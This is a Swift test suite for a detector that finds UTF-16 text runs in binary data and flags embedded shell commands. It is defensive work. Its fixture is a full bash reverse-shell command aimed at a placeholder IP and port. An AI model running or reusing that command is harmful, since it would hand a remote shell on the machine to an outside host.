import Bytes
import Detectors
import Testing

@testable import Engine

struct WideTextTests {
  private static let shell = "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"

  private func wide(_ text: String, bigEndian: Bool = false) -> [UInt8] {
    text.utf8.flatMap { bigEndian ? [0, $0] : [$0, 0] }
  }

  private func runs(_ bytes: [UInt8]) -> [(Int, String)] {
    var found: [(Int, String)] = []
    bytes.withView { WideText.forEachRun(in: $0) { found.append(($0, String(decoding: $1, as: UTF8.self))) } }
    return found
  }

  @Test(arguments: 0..<17) func aShellIsFoundAtAnyPlace(_ place: Int) throws {
    let bytes = [UInt8](repeating: 0xFF, count: place) + wide(Self.shell) + [0, 0, 0xFF, 0xFF, 0xFF]
    let found = bytes.withView { WideText.detections(in: $0) }
    let one = try #require(found.first)
    #expect(found.count == 1 && one.host == "198.51.100.7" && one.port == 4444)
    #expect(one.range.lowerBound >= place && one.range.upperBound <= place + 2 * Self.shell.utf8.count)
    #expect(one.steps.first == "UTF-16 read")
  }

  @Test func theOtherByteOrderIsReadToo() {
    #expect(runs([9, 9] + wide(Self.shell, bigEndian: true) + [0xFF, 9]).map(\.1) == [Self.shell])
  }

  @Test func twoTextsAreTwoRuns() {
    let one = "first text of its own"
    let two = "second text of its own"
    #expect(runs(wide(one) + [0, 0] + wide(two) + [1]).map(\.1) == [one, two])
  }

  @Test func shortTextPlainTextAndNumbersAreNone() {
    #expect(runs(wide("too short")).isEmpty)
    #expect(runs(Array("plain text that is long enough to be one".utf8)).isEmpty)
    #expect(runs([UInt8](repeating: 0, count: 4096)).isEmpty)
    #expect(runs((0..<400).flatMap { _ in [UInt8(3), 0] }).isEmpty)
    #expect(runs([]).isEmpty && runs([0x41]).isEmpty && runs([0x41, 0, 0x41, 0, 0x41, 0, 0x41]).isEmpty)
  }

  @Test func aLongRunIsCutAndNothingIsLost() {
    let text = String(repeating: "0123456789abcdef", count: 3000)
    let found = runs(wide(text))
    #expect(found.map(\.1).joined() == text)
    #expect(found.allSatisfy { $0.1.utf8.count <= WideText.maximumCount + 4 })
  }
}
